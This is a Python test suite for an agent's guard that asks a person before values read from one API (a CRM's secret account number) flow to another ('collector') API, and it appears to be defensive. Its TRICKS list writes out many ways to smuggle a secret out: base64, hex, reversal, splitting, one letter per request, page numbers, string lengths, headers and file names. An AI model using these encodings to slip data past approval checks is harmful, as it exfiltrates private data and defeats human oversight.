"""Guards the flow of values between APIs: what one API answered goes to another one only after a person was asked."""

import base64
import re
from collections.abc import Callable
from dataclasses import replace
from typing import Any, NamedTuple
from urllib.parse import unquote

import pytest
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.store.memory import InMemoryStore
from pair import COLLECTOR, SECRET, Pair, PairAgent, document
from roles import by_role, call, end, plan, program, select

from restgpt.calling.journal import Journal
from restgpt.calling.undo import reversals
from restgpt.specs import Catalogue, load_api

WRITES = ("ask", "allow", "deny", "dry-run")
READ = "secret = get_customer(customer=7)['account']\n"


def programs(pair: Pair, *codes: Any, sources: tuple[str, ...] = (), **context: Any) -> PairAgent:
    replies = [program(code) if isinstance(code, str) else code for code in codes]
    return pair.agent(by_role({"express": replies}), sources=sources, **context)


def asked(result: dict[str, Any]) -> list[dict[str, Any]]:
    pauses = result.get("__interrupt__") or []
    return [action for pause in pauses for action in pause.value["action_requests"]]


class Trick(NamedTuple):
    """A program that sends the secret in some form, and how the collector reads it out of its log."""

    name: str
    code: str
    decode: Callable[[str], str] = str


def numbers(key: str) -> Callable[[str], str]:
    def decode(log: str) -> str:
        return "".join(chr(int(number)) for number in re.findall(rf"{key}(\d+)", log) if 31 < int(number) < 127)

    return decode


def from_hex(log: str) -> str:
    return "".join(bytes.fromhex(found).decode("ascii", "replace") for found in re.findall(r"(?:[0-9a-f]{2}){4,}", log))


TRICKS = [
    Trick("raw in a query", "find_items(q=secret)"),
    Trick("raw in a path", "get_drop(what=secret)"),
    Trick("in a sentence", "find_items(q=f'for {secret} please')"),
    Trick("lower case", "find_items(q=secret.lower())", str.upper),
    Trick(
        "base64",
        "import base64\nfind_items(q=base64.b64encode(secret.encode()).decode())",
        lambda log: "".join(
            base64.b64decode(unquote(found) + "==").decode("latin-1") for found in re.findall(r"q=([\w%]+)", log)
        ),
    ),
    Trick("hex", "find_items(q=secret.encode().hex())", from_hex),
    Trick("reversed", "find_items(q=secret[::-1])", lambda log: log[::-1]),
    Trick(
        "split in two arguments",
        "find_items(q=secret[:11], since=secret[11:])",
        lambda log: re.sub(r"&\w+=", "", log),
    ),
    Trick(
        "a letter in each request",
        "for letter in secret:\n    get_drop(what=letter)",
        lambda log: "".join(re.findall(r"/drop/(\w)", log)),
    ),
    Trick("a header", "ping(X_Note=secret)"),
    Trick("a cookie", "ping(mark=secret)"),
    Trick("a name in a query", "ping(labels={secret: 'x'})"),
    Trick("a value in an object of a query", "ping(labels={'x': secret})"),
    Trick("a list", "find_items(tags=list(secret))", lambda log: "".join(re.findall(r"tags=(\w)", log))),
    Trick("a field of a body", "add_note(text=secret)"),
    Trick("a key of a body", "add_note(text='x', extra={secret: 1})"),
    Trick("JSON text in a field", "import json\nadd_note(text=json.dumps({'x': secret}))"),
    Trick("the name of a file", "add_file(title='x', file={'@bytes': 'eA==', 'filename': secret})"),
    Trick(
        "the content of a file",
        "import base64\ncontent = base64.b64encode(secret.encode()).decode()\n"
        "add_file(title='x', file={'@bytes': content, 'filename': 'x'})",
    ),
    Trick("a field of a form", "add_file(title=secret)"),
    Trick("page numbers", "for letter in secret:\n    find_items(page=ord(letter))", numbers("page=")),
    Trick("a cursor", "find_items(after=secret)"),
    Trick(
        "arithmetic",
        "find_items(page=int(secret[2:12]) * 3)",
        lambda log: "DE89370400440532013000" if str(8937040044 * 3) in log else log,
    ),
    Trick(
        "lengths of texts",
        "for letter in secret:\n    find_items(q='x' * ord(letter))",
        lambda log: "".join(chr(len(found)) for found in re.findall(r"q=(x+)", log)),
    ),
    Trick("the target of a change", "put_drop(what=secret, note='x')"),
    Trick("the body of a change of a known target", "put_drop(what='customer', note=secret)"),
    Trick("an idempotency key", "add_note(text=secret, idempotency_key=secret)"),
    Trick("the media type", "find_items(q='x', accept=f'text/{secret}')"),
    Trick("a text of 20 MB", "find_items(q=secret * 900_000)"),
]


def leaks(log: list[str], decode: Callable[[str], str]) -> bool:
    text = "\n".join(log)
    forms = (SECRET, SECRET.lower(), SECRET[::-1], base64.b64encode(SECRET.encode()).decode(), SECRET.encode().hex())
    return any(form in unquote(text) for form in forms) or SECRET in decode(text)


CASES = [
    *((trick, WRITES[number % 4]) for number, trick in enumerate(TRICKS)),
    *((TRICKS[0], writes) for writes in WRITES[1:]),
]


@pytest.mark.sampled(7)
@pytest.mark.parametrize(("trick", "writes"), CASES, ids=[f"{trick.name}, {writes}" for trick, writes in CASES])
def test_no_trick_takes_a_value_to_another_api_unasked(pair: Pair, trick: Trick, writes: str) -> None:
    agent = programs(pair, READ + trick.code + "\nprint('done')", end("I cannot do that.", fulfilled=False))
    result = agent.ask("Look at customer 7 and do what fits", writes=writes)
    assert not leaks(pair.log, trick.decode)
    assert all(action["flow"]["sources"].values() for action in asked(result) if "flow" in action)


NOT_AT_ALL = ("an idempotency key", "the media type", "a text of 20 MB")
"""Tricks that fail even between APIs that the user lets exchange values."""


@pytest.mark.sampled(11)
@pytest.mark.parametrize(
    "trick", [trick for trick in TRICKS if trick.name not in NOT_AT_ALL], ids=lambda trick: trick.name
)
def test_each_trick_works_where_the_user_allows_the_two_apis(pair: Pair, trick: Trick) -> None:
    agent = programs(pair, READ + trick.code + "\nprint('done')", end("No.", fulfilled=False), sources=("crm",))
    agent.ask("Look at customer 7 and do what fits", writes="allow", max_requests=1000)
    assert leaks(pair.log, trick.decode)


class Task(NamedTuple):
    """An honest task with both APIs: the instruction, the program, and how often a person has to be asked."""

    instruction: str
    code: str
    asks: int = 0


C = "c = get_customer(customer=7)\n"
HONEST = [
    Task("Show customer 7 and the things", C + "print(c['name'], len(find_items()['items']))"),
    Task("Find customer 7, and thing 103", C + "print(c['name'], get_item(item=103)['name'])"),
    Task("Search the things for Ada, and list our customers", "list_customers()\nprint(find_items(q='Ada'))"),
    Task("List customers and the newest things", "list_customers()\nprint(find_items(sort='date', limit=5))"),
    Task("Customers, and things since 2026-11-01", "list_customers()\nprint(find_items(since='2026-11-01'))"),
    Task("Read customer 7 and all things", C + "print(len(rows(find_items(pages=3))))"),
    Task(
        "Customer 7, then each thing of the first page",
        C + "for item in find_items(limit=12)['items']:\n    print(get_item(item=item['id'])['name'])",
    ),
    Task(
        "Customers, and the things of the first page, all at once",
        "list_customers()\nitems = find_items()['items']\n"
        "print(gather(*[lambda i=i: get_item(item=i['id']) for i in items]))",
    ),
    Task("Both lists", "a, b = gather(lambda: list_customers(), lambda: find_items())\nprint(len(a), len(b['items']))"),
    Task("Things first, then customers", "print(find_items(q='new', limit=3 * 4)['items'])\nprint(list_customers())"),
    Task("Customers and two pages of things", "list_customers()\nprint(find_items(page=1), find_items(page=2))"),
    Task("Is the collector there? And customer 8?", "get_customer(customer=8)\nprint(ping())"),
    Task("Customer 7 and the drop called box", C + "print(get_drop(what='box'))"),
    Task("Customer 7 and letter a", C + "print(get_letter(letter='a'))"),
    Task(
        "Customers that have a thing in common",
        "items = {i['id'] for i in find_items()['items']}\n"
        "print([c['name'] for c in list_customers() if c['item'] in items])",
    ),
    Task(
        "Customers, and the last new thing",
        "list_customers()\nlast = [i for i in find_items()['items'] if i['state'] == 'new'][-1]\n"
        "print(get_item(item=last['id']))",
    ),
    Task("Customers and things tagged red or blue", "list_customers()\nprint(find_items(tags=['red', 'blue']))"),
    Task(
        "Customers, and 3 searches",
        "list_customers()\nfor q in ('tea', 'cup', 'pot'):\n    print(find_items(q=q, limit=5))",
    ),
    Task("The thing of customer 7", C + "print(get_item(item=c['item'])['name'])", 1),
    Task("Search the things for the city of customer 7", C + "print(find_items(q=c['city']))", 1),
    Task(
        "Search the things for the names of all customers",
        "for c in list_customers():\n    print(find_items(q=c['name']))",
        1,
    ),
    Task(
        "Search for all cities at once",
        "print(gather(*[lambda c=c: find_items(q=c['city']) for c in list_customers()]))",
        1,
    ),
    Task("Note the visits of customer 7 as a search", C + "print(find_items(q=f\"visits {c['visits']}\", limit=2))", 1),
]


@pytest.mark.sampled(6)
@pytest.mark.parametrize("task", HONEST, ids=lambda task: task.instruction)
def test_an_honest_task_asks_once_where_a_value_goes_over_and_never_elsewhere(pair: Pair, task: Task) -> None:
    agent = programs(pair, task.code, end("It failed.", fulfilled=False))
    result, asks = agent.ask(task.instruction), 0
    while actions := asked(result):
        asks += 1
        result = agent.answer(*["approve"] * len(actions))
    assert (asks, result["answer"] == "It failed.") == (task.asks, False)


SEND = READ + "print(find_items(q=secret)['items'][0]['name'])"

TRY = "try:\n        find_items(q=secret[:n])\n    except Rejected as error:\n        print(error)"
TRY_TWICE = f"{READ}for n in (3, 5):\n    {TRY}"


def caller(pair: Pair, *arguments: dict[str, Any], operation: str = "find_items", **context: Any) -> PairAgent:
    """An agent that reads the customer and then makes calls with these arguments, one by one."""
    script = {
        "planner": [plan("Read customer 7"), plan("Use the collector"), end("Done.")],
        "selector": [select("get_customer"), select(operation)],
        "caller": [call({"path": {"customer": 7}}), call(*arguments, numbers=[1] * len(arguments))],
        "parser": ["print('read')"] * 5,
    }
    return pair.agent(by_role(script), **{"road": "roles", **context})  # type: ignore[arg-type]


@pytest.mark.sampled(3)
@pytest.mark.parametrize("writes", WRITES)
@pytest.mark.parametrize(
    "value", [SECRET, SECRET[::-1], base64.b64encode(SECRET.encode()).decode(), SECRET.lower(), f"to {SECRET}"]
)
def test_what_a_model_writes_after_it_read_an_api_is_asked_about(pair: Pair, value: str, writes: str) -> None:
    result = caller(pair, {"query": {"q": value}}).ask("Look at customer 7 and do what fits", writes=writes)
    [action] = asked(result)
    assert action["flow"]["to"] == "collector"
    assert pair.log == []


@pytest.mark.parametrize(
    "arguments", [{"query": {"q": "tea"}}, {"query": {"sort": "date"}}, {}], ids=["user", "document", "nothing"]
)
def test_the_users_words_and_the_documents_pass_call_by_call(pair: Pair, arguments: dict[str, Any]) -> None:
    result = caller(pair, arguments).ask("Look at customer 7 and search for tea")
    assert asked(result) == []
    assert len(pair.log) == 1


def test_the_models_own_words_pass_before_another_api_answered(pair: Pair) -> None:
    code = "x = 'made' + 'up'\nprint(find_items(q=x, limit=2 + 3)['items'][0]['name'])\nget_customer(customer=7)"
    agent = programs(pair, code)
    assert asked(agent.ask("Search for something, then read customer 7")) == []
    assert pair.paths == ["GET /items?q=madeup&limit=5"]


def test_the_question_shows_the_values_and_the_api_that_each_comes_from(pair: Pair) -> None:
    [action] = asked(programs(pair, SEND).ask("Look at customer 7"))
    [item] = action["provenance"]
    assert action["args"] == {"query": {"q": SECRET}}
    # The line of the call reads no field, so nothing is said about where it comes from.
    assert (item["origin"], item["places"]) == ("program", [])
    assert "Values of crm may go to collector with this request." in action["description"]
    until = "An approval allows crm → collector until this instruction is done, for an hour at most."
    assert until in action["description"]


def test_a_pair_is_asked_about_once_in_a_run_and_again_in_the_next(pair: Pair) -> None:
    code = READ + "for n in (3, 5):\n    find_items(q=secret[:n])\nprint(get_drop(what=secret)['ok'])"
    agent = programs(pair, code, code)
    assert len(asked(agent.ask("Look at customer 7"))) == 1
    assert agent.answer("approve")["answer"] == "True"
    assert pair.paths == ["GET /items?q=DE8", "GET /items?q=DE893", f"GET /drop/{SECRET}"]
    assert len(asked(agent.ask("Look at customer 7 again"))) == 1
    assert len(pair.log) == 3


def test_a_rejection_holds_for_the_run_and_gives_the_program_a_reason(pair: Pair) -> None:
    agent = programs(pair, TRY_TWICE, end("It was refused."))
    assert len(asked(agent.ask("Look at customer 7"))) == 1
    result = agent.answer("reject")
    assert asked(result) == []
    assert pair.log == []
    assert "did not allow values of crm to be sent to collector" in str(agent.state["steps"][0]["result"])


def test_an_answer_in_words_refuses_one_call_only(pair: Pair) -> None:
    agent = programs(pair, TRY_TWICE, end("It was refused."))
    agent.ask("Look at customer 7")
    assert len(asked(agent.answer({"type": "respond", "message": "less, please"}))) == 1
    assert pair.log == []


def test_an_edit_makes_the_values_the_persons_own(pair: Pair) -> None:
    agent = programs(pair, SEND)
    agent.ask("Look at customer 7")
    edit = {"type": "edit", "edited_action": {"name": "find_items", "args": {"query": {"q": "tea"}}}}
    agent.answer(edit)
    assert pair.paths == ["GET /items?q=tea"]


def test_calls_that_wait_together_share_one_question(pair: Pair) -> None:
    code = READ + "print(len(gather(*[lambda n=n: find_items(q=secret[:n]) for n in range(1, 5)])))"
    agent = programs(pair, code)
    assert len(asked(agent.ask("Look at customer 7"))) == 1
    assert pair.log == []
    assert agent.answer("approve")["answer"] == "4"
    assert len(pair.log) == 4


@pytest.mark.parametrize("writes", WRITES)
def test_a_change_is_not_looked_at_before_its_values_may_go_out(pair: Pair, writes: str) -> None:
    agent = programs(pair, READ + "put_drop(what=secret, note='x')\nprint('put')", end("Not done."))
    result = agent.ask("Look at customer 7", writes=writes)
    assert pair.log == []
    if writes in ("ask", "allow"):
        [action] = asked(result)
        assert action["target"] is None
        agent.answer("approve")
        assert pair.paths == [f"GET /drop/{SECRET}", f"PUT /drop/{SECRET}"]
    else:
        assert asked(result) == []


def test_a_rejected_change_does_not_refuse_the_pair(pair: Pair) -> None:
    code = f"{READ}try:\n    put_drop(what=secret)\nexcept Rejected:\n    pass\n{SEND.removeprefix(READ)}"
    agent = programs(pair, code, end("thing 0"))
    assert len(asked(agent.ask("Look at customer 7"))) == 1
    assert len(asked(agent.answer("reject"))) == 1
    agent.answer("approve")
    assert pair.paths == [f"GET /items?q={SECRET}"]


@pytest.mark.parametrize("is_alone", [False, True], ids=["both APIs", "the collector alone"])
def test_a_later_turn_of_the_thread_still_knows_what_was_read(pair: Pair, is_alone: bool) -> None:
    agent = programs(pair, READ + "print(secret)", f"print(find_items(q='{SECRET}')['items'][0]['name'])")
    agent.ask("Look at customer 7")
    if is_alone:
        agent.graph = agent.alone
    assert len(asked(agent.ask("Search the things"))) == 1
    assert pair.log == []


ASKED_ABOUT: dict[str, tuple[list[str], tuple[str, ...]]] = {
    "in the text of an error": ([READ + "raise ValueError(secret)", f"print(find_items(q='{SECRET}'))"], ()),
    "though the model's words are allowed": ([SEND], ("model",)),
    "computed though these are": ([READ + "print(find_items(q=secret[::-1]))"], ("model",)),
}


@pytest.mark.parametrize(("codes", "sources"), ASKED_ABOUT.values(), ids=ASKED_ABOUT)
def test_a_value_of_an_answer_is_asked_about(pair: Pair, codes: list[str], sources: tuple[str, ...]) -> None:
    assert len(asked(programs(pair, *codes, sources=sources).ask("Look at customer 7"))) == 1
    assert pair.log == []


def test_an_approval_survives_a_new_process(pair: Pair) -> None:
    code = READ + "find_items(q=secret)\nput_drop(what='x', note='y')\nprint(get_drop(what=secret)['ok'])"
    agent, again = programs(pair, code), programs(pair)
    agent.ask("Look at customer 7, and drop x")
    saver, store = agent.graph.checkpointer, agent.graph.store
    for graph in (again.graph, agent.graph):
        graph.checkpointer, graph.store = saver, store
    assert asked(again.answer("approve"))[0]["name"] == "put_drop"
    assert agent.answer("approve")["answer"] == "True"
    assert pair.paths[-1] == f"GET /drop/{SECRET}"


def test_pages_carry_only_what_the_first_request_carried(pair: Pair) -> None:
    agent = programs(pair, READ + "print(len(rows(find_items(q='tea', pages=3))))")
    assert asked(agent.ask("Look at customer 7 and search for tea")) == []
    assert pair.paths == ["GET /items?q=tea", "GET /items?q=tea&page=2", "GET /items?q=tea&page=3"]


def test_the_users_settings_let_the_models_words_through(pair: Pair) -> None:
    result = caller(pair, {"query": {"q": "cups"}}, sources=("model",)).ask("Look at customer 7")
    assert asked(result) == []
    assert pair.paths == ["GET /items?q=cups"]


def test_one_api_alone_is_neither_traced_nor_asked_about(pair: Pair) -> None:
    agent = programs(pair, "for item in find_items()['items']:\n    print(get_drop(what=item['name'] * 2)['ok'])")
    agent.graph = agent.alone
    assert asked(agent.ask("Drop the things")) == []
    requests = agent.state["steps"][0]["requests"]
    assert len(pair.log) == 13
    assert all(request["provenance"] == [] and "flow" not in request for request in requests)


def test_an_undo_looks_only_at_targets_whose_values_were_allowed(pair: Pair) -> None:
    agent = programs(pair, READ + "put_drop(what=secret, note='x')", end("Rejected."))
    agent.ask("Look at customer 7")
    agent.answer("reject")
    journal = Journal(agent.graph.store, "thread")  # type: ignore[arg-type]
    assert reversals(journal, Catalogue([pair.crm, pair.collector])) == []
    assert pair.log == []


def test_an_answer_in_a_hosts_conversation_still_tells_which_apis_answered(pair: Pair) -> None:
    agent = programs(pair, READ + "print(secret)", f"print(find_items(q='{SECRET[::-1]}'))")
    builder = StateGraph(MessagesState)
    builder.add_node("restgpt", agent.graph)
    builder.add_edge(START, "restgpt")
    host: Any = builder.compile(checkpointer=InMemorySaver(), store=InMemoryStore())
    thread = {"configurable": {"thread_id": "host"}}
    assert host.invoke({"messages": [("user", "Read the account of 7")]}, thread)["messages"][-1].text == SECRET
    [action] = asked(host.invoke({"messages": [("user", "And search")]}, thread))
    assert list(action["flow"]["sources"].values()) == ["crm"]
    assert pair.log == []


def test_a_document_that_is_titled_like_an_entry_does_not_pass_for_it_in_the_question(pair: Pair) -> None:
    titled = replace(pair, collector=load_api(document("CRM", COLLECTOR), base_url=pair.collector.base_url))
    [action] = asked(programs(titled, SEND).ask("Look at customer 7"))
    assert 'Values of crm may go to "crm by its title only" with this request.' in action["description"]
    assert pair.log == []
